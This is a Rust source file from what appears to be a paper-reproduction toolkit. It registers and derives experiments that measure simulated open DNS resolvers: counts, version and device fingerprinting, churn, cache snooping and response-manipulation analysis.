//! [`BundleData`] to its rendered artifact. Callers collect once with
//! [`crate::collect_bundle`] and derive many — in parallel via
//! [`derive_all`], since derivations only read the immutable bundle.

use crate::collect::{self, BundleData, CampaignKind};
use crate::report;
use classify::snoopclass::{classify_snoop, estimate_full_ttls};
use classify::{classify_version, fingerprint_device, SoftwareClass, UtilizationClass};
use geodb::Rir;
use scanner::campaign::enumerate::VerificationReport;
use scanner::{banner_scan, chaos_scan, enumerate, snoop_scan, ChaosObservation, ChurnResult};
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use std::io;
use std::net::Ipv4Addr;
use worldgen::{World, WorldConfig};

// =====================================================================
// The experiment registry
// =====================================================================

/// Options shared by every experiment derivation.
#[derive(Debug, Clone)]
pub struct DeriveOptions {
    /// World configuration — consulted only by experiments that build
    /// their own miniature worlds (the ablations).
    pub cfg: WorldConfig,
    /// Row cap for the per-country fluctuation table (Table 1).
    pub top_countries: usize,
}

impl Default for DeriveOptions {
    fn default() -> DeriveOptions {
        DeriveOptions {
            cfg: WorldConfig::default(),
            top_countries: 10,
        }
    }
}

/// What one experiment derivation produced.
#[derive(Debug, Clone)]
pub struct ExperimentOutput {
    /// The experiment id this output belongs to.
    pub id: &'static str,
    /// The rendered text report, ready to print.
    pub text: String,
    /// Machine-readable report under a stable JSON key. Experiments
    /// sharing a data product (fig1/tab1/tab2, the analysis family)
    /// emit the same key; assemblers deduplicate by key.
    pub json: Option<(&'static str, serde_json::Value)>,
}

/// One registry entry: a paper artifact, the campaign kinds it needs
/// collected, and the derivation from bundle to output.
pub struct Experiment {
    /// The id `repro --exp` accepts.
    pub id: &'static str,
    /// The artifact it regenerates.
    pub title: &'static str,
    /// Campaign kinds that must be present in the bundle. Empty means
    /// the experiment is self-contained (the ablations).
    pub requires: &'static [CampaignKind],
    /// Id of a broader experiment whose text output already contains
    /// this one's, byte for byte (the analysis report embeds the
    /// tab5/fig4/censorship/cases/prefilter sections). `--exp all`
    /// skips subsumed experiments so no section prints twice.
    pub subsumed_by: Option<&'static str>,
    /// Pure derivation over the immutable bundle.
    pub derive: fn(&BundleData, &DeriveOptions) -> io::Result<ExperimentOutput>,
}

/// Every experiment `repro --exp` accepts (besides `all`), in print
/// order. `repro --list` renders this table and unknown ids are
/// rejected against it.
pub const REGISTRY: &[Experiment] = &[
    Experiment {
        id: "fig1",
        title: "Figure 1 — weekly open-resolver counts",
        requires: &[CampaignKind::Weekly],
        subsumed_by: None,
        derive: derive_fig1,
    },
    Experiment {
        id: "tab1",
        title: "Table 1 — resolver fluctuation per country",
        requires: &[CampaignKind::Weekly],
        subsumed_by: None,
        derive: derive_tab1,
    },
    Experiment {
        id: "tab2",
        title: "Table 2 — resolver fluctuation per RIR",
        requires: &[CampaignKind::Weekly],
        subsumed_by: None,
        derive: derive_tab2,
    },
    Experiment {
        id: "tab3",
        title: "Table 3 — CHAOS software fingerprinting",
        requires: &[CampaignKind::Fleet, CampaignKind::Chaos],
        subsumed_by: None,
        derive: derive_tab3,
    },
    Experiment {
        id: "tab4",
        title: "Table 4 — TCP banner device fingerprinting",
        requires: &[CampaignKind::Fleet, CampaignKind::Banner],
        subsumed_by: None,
        derive: derive_tab4,
    },
    Experiment {
        id: "fig2",
        title: "Figure 2 — cohort IP churn",
        requires: &[CampaignKind::Fleet, CampaignKind::Churn],
        subsumed_by: None,
        derive: derive_fig2,
    },
    Experiment {
        id: "util",
        title: "Sec. 2.6 — cache-snooping utilization",
        requires: &[CampaignKind::Fleet, CampaignKind::Snoop],
        subsumed_by: None,
        derive: derive_util,
    },
    Experiment {
        id: "verify",
        title: "Sec. 2.2 — dual-vantage verification scan",
        requires: &[CampaignKind::Verify],
        subsumed_by: None,
        derive: derive_verify,
    },
    Experiment {
        id: "analysis",
        title: "Sec. 3 — response-manipulation analysis (tab5/fig4/censorship/cases)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: None,
        derive: derive_analysis,
    },
    Experiment {
        id: "tab5",
        title: "Table 5 — answer-manipulation clusters (via analysis)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: Some("analysis"),
        derive: derive_tab5,
    },
    Experiment {
        id: "fig4",
        title: "Figure 4 — manipulated-response CDF (via analysis)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: Some("analysis"),
        derive: derive_fig4,
    },
    Experiment {
        id: "censorship",
        title: "Sec. 3.5 — censorship case studies (via analysis)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: Some("analysis"),
        derive: derive_censorship,
    },
    Experiment {
        id: "cases",
        title: "Sec. 3.6 — cluster case studies (via analysis)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: Some("analysis"),
        derive: derive_cases,
    },
    Experiment {
        id: "prefilter",
        title: "Sec. 3.2 — prefilter funnel (via analysis)",
        requires: &[CampaignKind::Fleet, CampaignKind::Domains],
        subsumed_by: Some("analysis"),
        derive: derive_prefilter,
    },
    Experiment {
        id: "closedloop",
        title: "validation — generated ground truth vs recovered values",
        requires: &[
            CampaignKind::Fleet,
            CampaignKind::Chaos,
            CampaignKind::Banner,
            CampaignKind::Snoop,
        ],
        subsumed_by: None,
        derive: derive_closedloop,
    },
    Experiment {
        id: "ablations",
        title: "design-choice ablations (A-ABL1..A-ABL4)",
        requires: &[],
        subsumed_by: None,
        derive: derive_ablations,
    },
];

/// Look up a registry entry by id.
pub fn experiment(id: &str) -> Option<&'static Experiment> {
    REGISTRY.iter().find(|e| e.id == id)
}

/// Whether `id` is a valid `--exp` argument.
pub fn known_experiment(id: &str) -> bool {
    id == "all" || experiment(id).is_some()
}

/// Derive every experiment in `exps` from the bundle — in parallel,
/// results in input order. Safe because derivations only read the
/// immutable bundle stores.
pub fn derive_all(
    bundle: &BundleData,
    exps: &[&'static Experiment],
    opts: &DeriveOptions,
) -> Vec<io::Result<ExperimentOutput>> {
    use rayon::prelude::*;
    (0..exps.len())
        .into_par_iter()
        .map(|i| {
            telemetry::global()
                .counter_with("derive.experiment_runs", &[("exp", exps[i].id)])
                .inc();
            // Quiet spans: they feed the profiler and the
            // `span.derive.<id>.*` counters but write no trace lines —
            // rayon closes them in scheduler-dependent order, which
            // would break trace byte-stability. Gated on `--profile`
            // so unprofiled runs consume no span ids either.
            // Derivations burn no simulated time, so their sim
            // duration is 0; their cost shows up in the `wall_us`
            // counters.
            let sp = telemetry::profiling_enabled()
                .then(|| telemetry::span_quiet(&format!("derive.{}", exps[i].id), 0));
            let out = (exps[i].derive)(bundle, opts);
            if let Some(s) = sp {
                s.finish(0);
            }
            out
        })
        .collect()
}

// =====================================================================
// E-FIG1 — weekly resolver counts
// =====================================================================

/// One weekly scan's counts.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct WeekRow {
    /// Scan week (0-based).
    pub week: u32,
    /// All responding resolvers.
    pub all: u64,
    /// NOERROR responders.
    pub noerror: u64,
    /// REFUSED responders.
    pub refused: u64,
    /// SERVFAIL responders.
    pub servfail: u64,
    /// Responders whose answer arrived from a different source address
    /// than the probed target — DNS proxies / multi-homed hosts
    /// (Sec. 2.5: 630k-750k per scan, ~2.5% of responders).
    pub proxy_responders: u64,
}

/// Figure 1 series, plus the per-country snapshots Table 1/2 need.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Fig1Report {
    /// One row per weekly scan.
    pub weeks: Vec<WeekRow>,
    /// Country → NOERROR resolvers in the first scan.
    pub first_by_country: BTreeMap<String, u64>,
    /// Country → NOERROR resolvers in the last scan.
    pub last_by_country: BTreeMap<String, u64>,
    /// Ground-truth alive NOERROR population per week — the analogue of
    /// the Open Resolver Project cross-check (Sec. 2.2: "the numbers
    /// for each scan match within a 2% error margin"). Excludes
    /// blacklisted (opted-out) resolvers, which the scan cannot see.
    pub ground_truth_noerror: Vec<u64>,
}

impl Fig1Report {
    /// Worst relative deviation between scan counts and ground truth.
    pub fn max_cross_check_error(&self) -> f64 {
        self.weeks
            .iter()
            .zip(&self.ground_truth_noerror)
            .map(|(w, &truth)| {
                if truth == 0 {
                    0.0
                } else {
                    (w.noerror as f64 - truth as f64).abs() / truth as f64
                }
            })
            .fold(0.0, f64::max)
    }
}

/// Run `weeks` weekly scans over a fresh world (E-FIG1, plus the
/// snapshots feeding Tables 1–2). The campaign streams into an
/// in-memory snapshot store and the report is derived back out of it —
/// the same collect/derive code `repro --store` runs against the
/// persistent [`scanstore::CampaignStore`].
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn fig1_weekly_counts(cfg: WorldConfig, weeks: u32) -> Fig1Report {
    let mut mem = scanstore::MemoryStore::new();
    crate::collect::collect_weekly(cfg, weeks, 0, &mut mem).expect("in-memory sink cannot fail");
    crate::collect::fig1_from_source(&mem).expect("in-memory source cannot fail")
}

// =====================================================================
// E-TAB1 / E-TAB2 — fluctuation per country / RIR
// =====================================================================

/// Fluctuation row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct FluxRow {
    /// Country code or AS key.
    pub key: String,
    /// Count in the first scan.
    pub first: u64,
    /// Count in the last scan.
    pub last: u64,
}

impl FluxRow {
    /// Absolute change `last - first`.
    pub fn delta(&self) -> i64 {
        self.last as i64 - self.first as i64
    }

    /// Relative change in percent.
    pub fn pct(&self) -> f64 {
        if self.first == 0 {
            0.0
        } else {
            100.0 * self.delta() as f64 / self.first as f64
        }
    }
}

/// Table 1: top-`n` countries by first-scan population.
pub fn table1_country_flux(fig1: &Fig1Report, n: usize) -> Vec<FluxRow> {
    let mut rows: Vec<FluxRow> = fig1
        .first_by_country
        .iter()
        .map(|(cc, &first)| FluxRow {
            key: cc.clone(),
            first,
            last: fig1.last_by_country.get(cc).copied().unwrap_or(0),
        })
        .collect();
    rows.sort_by(|a, b| b.first.cmp(&a.first).then(a.key.cmp(&b.key)));
    rows.truncate(n);
    rows
}

/// Table 2: fluctuation per Regional Internet Registry.
pub fn table2_rir_flux(fig1: &Fig1Report) -> Vec<FluxRow> {
    let mut by_rir: BTreeMap<&'static str, (u64, u64)> = BTreeMap::new();
    for (cc, &n) in &fig1.first_by_country {
        let rir = Rir::for_country(geodb::Country::new(cc));
        by_rir.entry(rir.name()).or_insert((0, 0)).0 += n;
    }
    for (cc, &n) in &fig1.last_by_country {
        let rir = Rir::for_country(geodb::Country::new(cc));
        by_rir.entry(rir.name()).or_insert((0, 0)).1 += n;
    }
    let mut rows: Vec<FluxRow> = by_rir
        .into_iter()
        .map(|(k, (first, last))| FluxRow {
            key: k.to_string(),
            first,
            last,
        })
        .collect();
    rows.sort_by_key(|r| std::cmp::Reverse(r.first));
    rows
}

// =====================================================================
// E-TAB3 — CHAOS software fingerprinting
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// CHAOS fingerprinting summary (Table 3).
pub struct Table3Report {
    /// Resolvers that answered the CHAOS scan.
    pub responding: u64,
    /// Error rcodes to version.bind.
    pub errors: u64,
    /// NOERROR with empty answer.
    pub empty: u64,
    /// Custom / hidden version strings.
    pub custom: u64,
    /// Parseable software banners.
    pub genuine: u64,
    /// `family version` → count among genuine-version responders.
    pub versions: BTreeMap<String, u64>,
}

impl Table3Report {
    /// Top-n versions with shares among version-leaking resolvers.
    pub fn top_versions(&self, n: usize) -> Vec<(String, f64)> {
        let total: u64 = self.versions.values().sum();
        let mut v: Vec<(String, u64)> =
            self.versions.iter().map(|(k, &c)| (k.clone(), c)).collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v.truncate(n);
        v.into_iter()
            .map(|(k, c)| (k, 100.0 * c as f64 / total.max(1) as f64))
            .collect()
    }

    /// Share of resolvers leaking genuine-looking versions.
    pub fn genuine_share(&self) -> f64 {
        if self.responding == 0 {
            0.0
        } else {
            self.genuine as f64 / self.responding as f64
        }
    }

    /// BIND share among version leakers (paper: 60.2%).
    pub fn bind_share(&self) -> f64 {
        let total: u64 = self.versions.values().sum();
        let bind: u64 = self
            .versions
            .iter()
            .filter(|(k, _)| k.starts_with("BIND"))
            .map(|(_, &c)| c)
            .sum();
        if total == 0 {
            0.0
        } else {
            bind as f64 / total as f64
        }
    }
}

/// Run the CHAOS scan and classify the answers (E-TAB3).
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn table3_software(world: &mut World, fleet: &[Ipv4Addr], seed: u64) -> Table3Report {
    let vantage = world.scanner_ip;
    let obs = chaos_scan(world, vantage, fleet, seed);
    let mut report = Table3Report::default();
    for o in obs.values() {
        match o {
            ChaosObservation::Silent => {}
            ChaosObservation::Errors => {
                report.responding += 1;
                report.errors += 1;
            }
            ChaosObservation::EmptyAnswers => {
                report.responding += 1;
                report.empty += 1;
            }
            ChaosObservation::Version(v) => {
                report.responding += 1;
                match classify_version(v) {
                    SoftwareClass::Known { family, version } => {
                        report.genuine += 1;
                        *report
                            .versions
                            .entry(format!("{family} {version}"))
                            .or_insert(0) += 1;
                    }
                    SoftwareClass::Custom(_) => report.custom += 1,
                }
            }
        }
    }
    report
}

// =====================================================================
// E-TAB4 — device fingerprinting
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// Device fingerprinting summary (Table 4).
pub struct Table4Report {
    /// Resolvers probed.
    pub fleet: u64,
    /// Resolvers with at least one open TCP service.
    pub tcp_responsive: u64,
    /// Hardware label → share (%) of TCP-responsive hosts.
    pub hardware: BTreeMap<String, f64>,
    /// OS label → share (%).
    pub os: BTreeMap<String, f64>,
}

/// Run the banner scan and fingerprint devices (E-TAB4).
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn table4_devices(world: &mut World, fleet: &[Ipv4Addr]) -> Table4Report {
    let banners = banner_scan(world, fleet);
    let mut hardware: BTreeMap<String, u64> = BTreeMap::new();
    let mut os: BTreeMap<String, u64> = BTreeMap::new();
    for obs in banners.values() {
        let fp = fingerprint_device(obs);
        *hardware.entry(fp.class.label().to_string()).or_insert(0) += 1;
        *os.entry(fp.os.label().to_string()).or_insert(0) += 1;
    }
    let total = banners.len().max(1) as f64;
    Table4Report {
        fleet: fleet.len() as u64,
        tcp_responsive: banners.len() as u64,
        hardware: hardware
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        os: os
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
    }
}

// =====================================================================
// E-FIG2 — IP churn
// =====================================================================

/// Figure 2 data plus the dynamic-rDNS attribution.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Fig2Report {
    /// Measured cohort survival.
    pub churn: ChurnResult,
}

/// Track the initial cohort for `weeks` weeks (E-FIG2), through the
/// same collect/derive split as [`fig1_weekly_counts`].
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn fig2_churn(cfg: WorldConfig, weeks: u32) -> Fig2Report {
    let mut mem = scanstore::MemoryStore::new();
    crate::collect::collect_churn(cfg, weeks, &mut mem).expect("in-memory sink cannot fail");
    crate::collect::fig2_from_source(&mem).expect("in-memory source cannot fail")
}

// =====================================================================
// E-UTIL — cache snooping utilization
// =====================================================================

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
/// Cache-utilization summary (Sec. 2.6).
pub struct UtilReport {
    /// Resolvers snooped.
    pub probed: u64,
    /// Class → share (%) of probed resolvers.
    pub shares: BTreeMap<String, f64>,
    /// Estimated client query rates (queries/hour) for resolvers with
    /// observable refreshes — the Rajab-style popularity follow-up.
    pub popularity_median: Option<f64>,
    /// 90th percentile of estimated TLD popularity (refresh rate).
    pub popularity_p90: Option<f64>,
}

impl UtilReport {
    /// Share of probed resolvers in `class`.
    pub fn share(&self, class: UtilizationClass) -> f64 {
        self.shares
            .get(&format!("{class:?}"))
            .copied()
            .unwrap_or(0.0)
    }

    /// Combined in-use share (paper: 61.6%).
    pub fn in_use_share(&self) -> f64 {
        self.share(UtilizationClass::InUse) + self.share(UtilizationClass::InUseFrequent)
    }
}

/// Snoop `sample` resolvers for `rounds` hourly rounds and classify
/// utilization (E-UTIL). Advances world time by `rounds` hours.
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn utilization(
    world: &mut World,
    fleet: &[Ipv4Addr],
    sample: usize,
    rounds: usize,
) -> UtilReport {
    let vantage = world.scanner_ip;
    let sample: Vec<Ipv4Addr> = fleet.iter().copied().take(sample).collect();
    let snooped = snoop_scan(world, vantage, &sample, rounds, 0x5009);
    // The TLD NS TTLs are public zone data (one authoritative query
    // each); the survey-based estimator remains available for settings
    // where that is not an option.
    let full: Vec<u32> = world.universe.tlds().iter().map(|t| t.ttl).collect();
    let results: Vec<&scanner::SnoopResult> = snooped.values().collect();
    let _ = estimate_full_ttls(&results);
    let mut counts: BTreeMap<String, u64> = BTreeMap::new();
    let mut rates: Vec<f64> = Vec::new();
    for r in snooped.values() {
        let class = classify_snoop(r, &full);
        *counts.entry(format!("{class:?}")).or_insert(0) += 1;
        if let Some(rate) = classify::snoopclass::estimate_popularity(r, &full) {
            rates.push(rate);
        }
    }
    rates.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let pct = |p: f64| -> Option<f64> {
        if rates.is_empty() {
            None
        } else {
            Some(rates[((rates.len() - 1) as f64 * p) as usize])
        }
    };
    let total = snooped.len().max(1) as f64;
    UtilReport {
        probed: snooped.len() as u64,
        shares: counts
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        popularity_median: pct(0.5),
        popularity_p90: pct(0.9),
    }
}

// =====================================================================
// Closed-loop validation: generated ground truth vs recovered values
// =====================================================================

/// One validation row.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ClosedLoopRow {
    /// Metric name.
    pub metric: String,
    /// Ground-truth (planted) value.
    pub generated: f64,
    /// Value the blind pipeline recovered.
    pub recovered: f64,
}

impl ClosedLoopRow {
    /// Relative error of the recovery.
    pub fn rel_error(&self) -> f64 {
        if self.generated == 0.0 {
            if self.recovered == 0.0 {
                0.0
            } else {
                f64::INFINITY
            }
        } else {
            (self.recovered - self.generated).abs() / self.generated.abs()
        }
    }
}

/// Compare what the generator planted against what the measurement
/// pipeline recovered — the validation loop DESIGN.md promises. Uses
/// the landscape campaigns (enumeration, CHAOS, banners, snooping).
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
#[allow(deprecated)]
pub fn closed_loop(world: &mut World, snoop_sample: usize) -> Vec<ClosedLoopRow> {
    use worldgen::world::ResponseClass;
    let vantage = world.scanner_ip;
    let mut rows = Vec::new();

    // Ground truth from resolver metadata.
    let truth_counts = world.alive_counts();
    let truth_noerror = *truth_counts.get(&ResponseClass::NoError).unwrap_or(&0) as f64;
    let truth_refused = *truth_counts.get(&ResponseClass::Refused).unwrap_or(&0) as f64;
    let alive: Vec<&worldgen::ResolverMeta> = world
        .resolvers
        .iter()
        .filter(|m| m.alive.load(std::sync::atomic::Ordering::Relaxed))
        .collect();
    let alive_noerror: Vec<&&worldgen::ResolverMeta> = alive
        .iter()
        .filter(|m| m.response_class == ResponseClass::NoError)
        .collect();
    // The device plan records only *recognizable* devices; hosts with
    // unrecognizable banners are also TCP-exposed, so ground truth is
    // the plan constant.
    let truth_tcp = worldgen::plan::TCP_EXPOSED_FRACTION;
    let truth_genuine = alive_noerror.iter().filter(|m| m.chaos_genuine).count() as f64
        / alive_noerror.len().max(1) as f64;
    let truth_zynos = alive_noerror
        .iter()
        .filter(|m| matches!(m.device, Some(worldgen::plan::DeviceClassPlan::RouterZyNos)))
        .count() as f64;

    // Measurements.
    let enumeration = enumerate(world, vantage, 0xC105ED);
    let counts = enumeration.counts();
    let fleet = enumeration.noerror_ips();
    rows.push(ClosedLoopRow {
        metric: "NOERROR resolvers".into(),
        generated: truth_noerror,
        recovered: counts.get("NOERROR").copied().unwrap_or(0) as f64,
    });
    rows.push(ClosedLoopRow {
        metric: "REFUSED resolvers".into(),
        generated: truth_refused,
        recovered: counts.get("REFUSED").copied().unwrap_or(0) as f64,
    });

    let t3 = table3_software(world, &fleet, 0xC105ED);
    rows.push(ClosedLoopRow {
        metric: "genuine version share".into(),
        generated: truth_genuine,
        recovered: t3.genuine as f64 / t3.responding.max(1) as f64,
    });

    let t4 = table4_devices(world, &fleet);
    rows.push(ClosedLoopRow {
        metric: "TCP-exposed share".into(),
        generated: truth_tcp,
        recovered: t4.tcp_responsive as f64 / t4.fleet.max(1) as f64,
    });
    rows.push(ClosedLoopRow {
        metric: "ZyNOS devices".into(),
        generated: truth_zynos,
        recovered: t4.os.get("ZyNOS").copied().unwrap_or(0.0) / 100.0 * t4.tcp_responsive as f64,
    });

    // Utilization: generated in-use share (frequent + slow profiles of
    // the plan) vs recovered classification.
    let util = utilization(world, &fleet, snoop_sample, 36);
    let plan = worldgen::plan::UTILIZATION_PLAN;
    rows.push(ClosedLoopRow {
        metric: "in-use share".into(),
        generated: plan.frequent + plan.in_use_slow,
        recovered: util.in_use_share() / 100.0,
    });

    rows
}

/// Render the closed-loop table.
pub fn render_closed_loop(rows: &[ClosedLoopRow]) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    let _ = writeln!(out, "Closed-loop validation — generated vs recovered");
    let _ = writeln!(
        out,
        "{:<28} {:>12} {:>12} {:>8}",
        "metric", "generated", "recovered", "err"
    );
    for r in rows {
        let _ = writeln!(
            out,
            "{:<28} {:>12.2} {:>12.2} {:>7.1}%",
            r.metric,
            r.generated,
            r.recovered,
            100.0 * r.rel_error()
        );
    }
    out
}

// =====================================================================
// E-VERIF — dual-vantage verification
// =====================================================================

/// Run the verification experiment at the world's current time.
#[deprecated(
    note = "collect a bundle with `collect_bundle` and derive via the experiment registry"
)]
pub fn verification(world: &mut World, seed: u64) -> VerificationReport {
    let vantage = world.scanner_ip;
    let primary = enumerate(world, vantage, seed);
    scanner::campaign::enumerate::verify_scan(world, &primary, seed)
}

// =====================================================================
// Registry derivations — pure functions over the collected bundle
// =====================================================================

fn jval<T: Serialize>(v: &T) -> io::Result<serde_json::Value> {
    serde_json::to_value(v).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
}

fn derive_fig1(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let fig1 = collect::fig1_from_source(b.source(CampaignKind::Weekly)?)?;
    Ok(ExperimentOutput {
        id: "fig1",
        text: report::render_fig1(&fig1),
        json: Some(("fig1", jval(&fig1)?)),
    })
}

fn derive_tab1(b: &BundleData, o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let fig1 = collect::fig1_from_source(b.source(CampaignKind::Weekly)?)?;
    let mut text = report::render_flux(
        &format!(
            "Table 1 — resolver fluctuation per country (Top {})",
            o.top_countries
        ),
        &table1_country_flux(&fig1, o.top_countries),
    );
    text.push_str("(paper: US −14.2%, CN −13.0%, TR −32.2%, …, IN +12.7%, TW −57.3%)\n");
    Ok(ExperimentOutput {
        id: "tab1",
        text,
        json: Some(("fig1", jval(&fig1)?)),
    })
}

fn derive_tab2(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let fig1 = collect::fig1_from_source(b.source(CampaignKind::Weekly)?)?;
    let mut text = report::render_flux(
        "Table 2 — resolver fluctuation per RIR",
        &table2_rir_flux(&fig1),
    );
    text.push_str(
        "(paper: RIPE −33.2%, APNIC −24.5%, LACNIC −35.1%, ARIN −12.1%, AFRINIC −8.6%)\n",
    );
    Ok(ExperimentOutput {
        id: "tab2",
        text,
        json: Some(("fig1", jval(&fig1)?)),
    })
}

fn derive_tab3(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let t3 = collect::table3_from_source(b.source(CampaignKind::Chaos)?, 0)?;
    Ok(ExperimentOutput {
        id: "tab3",
        text: report::render_table3(&t3),
        json: Some(("tab3", jval(&t3)?)),
    })
}

fn derive_tab4(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let t4 = collect::table4_from_source(b.source(CampaignKind::Banner)?)?;
    Ok(ExperimentOutput {
        id: "tab4",
        text: report::render_table4(&t4),
        json: Some(("tab4", jval(&t4)?)),
    })
}

fn derive_fig2(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let fig2 = collect::fig2_from_source(b.source(CampaignKind::Churn)?)?;
    Ok(ExperimentOutput {
        id: "fig2",
        text: report::render_fig2(&fig2),
        json: Some(("fig2", jval(&fig2)?)),
    })
}

fn derive_util(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let util = collect::util_from_source(b.source(CampaignKind::Snoop)?)?;
    Ok(ExperimentOutput {
        id: "util",
        text: report::render_util(&util),
        json: Some(("util", jval(&util)?)),
    })
}

fn derive_verify(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let v = collect::verification_from_source(b.source(CampaignKind::Verify)?)?;
    let text = format!(
        "Sec. 2.2 verification scan: {} NOERROR hosts seen only from the second /8 ({:.2}% of {}; paper: <1%)\n",
        v.missed_noerror,
        100.0 * v.missed_noerror as f64 / v.primary_noerror.max(1) as f64,
        v.primary_noerror
    );
    Ok(ExperimentOutput {
        id: "verify",
        text,
        json: Some(("verify", jval(&v)?)),
    })
}

fn analysis_of(b: &BundleData) -> io::Result<crate::pipeline::AnalysisReport> {
    collect::analysis_from_source(b.source(CampaignKind::Domains)?)
}

fn derive_analysis(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "analysis",
        text: report::render_analysis(&a),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_tab5(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "tab5",
        text: report::render_table5(&a)
            .trim_start_matches('\n')
            .to_string(),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_fig4(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "fig4",
        text: report::render_fig4(&a).trim_start_matches('\n').to_string(),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_censorship(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "censorship",
        text: report::render_censorship(&a)
            .trim_start_matches('\n')
            .to_string(),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_cases(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "cases",
        text: report::render_cases(&a)
            .trim_start_matches('\n')
            .to_string(),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_prefilter(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let a = analysis_of(b)?;
    Ok(ExperimentOutput {
        id: "prefilter",
        text: report::render_prefilter(&a)
            .trim_start_matches('\n')
            .to_string(),
        json: Some(("analysis", jval(&a)?)),
    })
}

fn derive_closedloop(b: &BundleData, _o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    let truth = collect::ground_truth_from_source(b.source(CampaignKind::Fleet)?)?;
    let (noerror, refused) = collect::fleet_counts_from_source(b.source(CampaignKind::Fleet)?)?;
    let t3 = collect::table3_from_source(b.source(CampaignKind::Chaos)?, 0)?;
    let t4 = collect::table4_from_source(b.source(CampaignKind::Banner)?)?;
    let util = collect::util_from_source(b.source(CampaignKind::Snoop)?)?;
    let rows = vec![
        ClosedLoopRow {
            metric: "NOERROR resolvers".into(),
            generated: truth.noerror,
            recovered: noerror as f64,
        },
        ClosedLoopRow {
            metric: "REFUSED resolvers".into(),
            generated: truth.refused,
            recovered: refused as f64,
        },
        ClosedLoopRow {
            metric: "genuine version share".into(),
            generated: truth.genuine_share,
            recovered: t3.genuine as f64 / t3.responding.max(1) as f64,
        },
        ClosedLoopRow {
            metric: "TCP-exposed share".into(),
            generated: truth.tcp_exposed,
            recovered: t4.tcp_responsive as f64 / t4.fleet.max(1) as f64,
        },
        ClosedLoopRow {
            metric: "ZyNOS devices".into(),
            generated: truth.zynos,
            recovered: t4.os.get("ZyNOS").copied().unwrap_or(0.0) / 100.0
                * t4.tcp_responsive as f64,
        },
        ClosedLoopRow {
            metric: "in-use share".into(),
            generated: truth.in_use_share,
            recovered: util.in_use_share() / 100.0,
        },
    ];
    Ok(ExperimentOutput {
        id: "closedloop",
        text: render_closed_loop(&rows),
        json: Some(("closedloop", jval(&rows)?)),
    })
}

fn derive_ablations(_b: &BundleData, o: &DeriveOptions) -> io::Result<ExperimentOutput> {
    Ok(ExperimentOutput {
        id: "ablations",
        text: ablations_report(&o.cfg),
        json: None,
    })
}

// =====================================================================
// Ablations — self-contained design-choice studies
// =====================================================================

/// The design-choice ablations DESIGN.md calls out (A-ABL1..A-ABL4;
/// A-ABL5 lives in `bench_lfsr`). Self-contained: builds its own tiny
/// worlds and page corpora rather than reading a bundle.
pub fn ablations_report(cfg: &WorldConfig) -> String {
    use htmlsim::distance::FeatureWeights;
    use htmlsim::gen::{self, PageCtx, SiteCategory};
    use htmlsim::{PageFeatures, TagInterner};
    use std::fmt::Write as _;

    let mut out = String::new();
    let _ = writeln!(out, "# Ablations\n");

    // ---- A-ABL1a: drop-one-feature separation, coarse families ----
    // Page *families* (bank site, error page, parking lander, phishing
    // kit, router login). The metric is the separation ratio:
    // (minimum cross-family distance) / (maximum within-family
    // distance); > 1 means a clean threshold exists.
